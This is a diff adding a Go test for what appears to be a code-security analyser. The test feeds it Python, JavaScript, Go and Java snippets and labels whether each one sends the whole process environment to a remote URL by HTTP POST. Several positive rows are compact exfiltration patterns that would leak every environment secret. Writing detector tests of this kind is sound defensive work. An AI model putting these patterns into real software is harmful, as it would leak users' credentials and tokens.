@@ -470,3 +470,30 @@ func TestReviewedMore(t *testing.T) {
 		{"void doGet(HttpServletRequest req, HttpServletResponse res) throws Exception { heading(res.getWriter(), Encode.forHtml(req.getParameter(\"q\"))); }\nvoid heading(java.io.PrintWriter out, String q) { out.printf(\"<h1>%s</h1>\", q); }", false},
 	})
 }
+
+// TestEnvironmentAway is all of the environment that another machine is given, through functions too, and one variable of it.
+func TestEnvironmentAway(t *testing.T) {
+	judgeKinds(t, "python", []kindRow{
+		{"import os, requests\ndef all():\n    return dict(os.environ)\ndef send(d):\n    requests.post(U, json=d)\nsend(all())", true},
+		{"import os, requests\ndef all():\n    return {'v': os.environ['VERSION']}\ndef send(d):\n    requests.post(U, json=d)\nsend(all())", false},
+		{"import os, requests\ns = requests.Session()\ndef f():\n    return str(os.environ)\ns.post(U, data=f().encode())", true},
+		{"import os, requests\ndef env():\n    return dict(os.environ)\ndef send(d):\n    requests.post(U, json=d)\nsubprocess.run(['make'], env=env())\nsend({'a': 1})", false},
+	})
+	judgeKinds(t, "javascript", []kindRow{
+		{"const all = () => ({ ...process.env })\nconst send = (d) => fetch(U, { method: 'POST', body: JSON.stringify(d) })\nsend(all())", true},
+		{"const one = () => ({ v: process.env.VERSION })\nconst send = (d) => fetch(U, { method: 'POST', body: JSON.stringify(d) })\nsend(one())", false},
+		{"async function f() { const { API } = process.env; return fetch(API) }", false},
+		{"async function f() { const { API, ...rest } = process.env; return fetch(API, { method: 'POST', body: JSON.stringify(rest) }) }", true},
+	})
+	judgeKinds(t, "go", []kindRow{
+		{"import (\"net/http\"; \"os\"; \"strings\")\nfunc f(u, t string) { (&http.Client{}).Post(u, t, strings.NewReader(strings.Join(os.Environ(), \"\\n\"))) }", true},
+		{"import (\"net/http\"; \"os\"; \"strings\")\nfunc f(u, t string) { (&http.Client{}).Post(u, t, strings.NewReader(os.Getenv(\"VERSION\"))) }", false},
+		{"import (\"net/http\"; \"os\"; \"strings\")\nfunc f(c *http.Client, u, t string) { c.Post(u, t, strings.NewReader(strings.Join(os.Environ(), \"\\n\"))) }", true},
+		{"import (\"os\"; \"strings\")\nfunc f(c *store, u, t string) { c.Post(u, t, strings.NewReader(strings.Join(os.Environ(), \"\\n\"))) }", false},
+	})
+	judgeKinds(t, "java", []kindRow{
+		{"void f() { HttpRequest r = HttpRequest.newBuilder(URI.create(System.getenv(\"URL\"))).build(); }", false},
+		{"void f() { HttpRequest r = HttpRequest.newBuilder(URI.create(System.getenv().get(\"URL\"))).build(); }", false},
+		{"void f(URI u) { HttpRequest r = HttpRequest.newBuilder(u).POST(BodyPublishers.ofString(System.getenv().toString())).build(); }", true},
+	})
+}
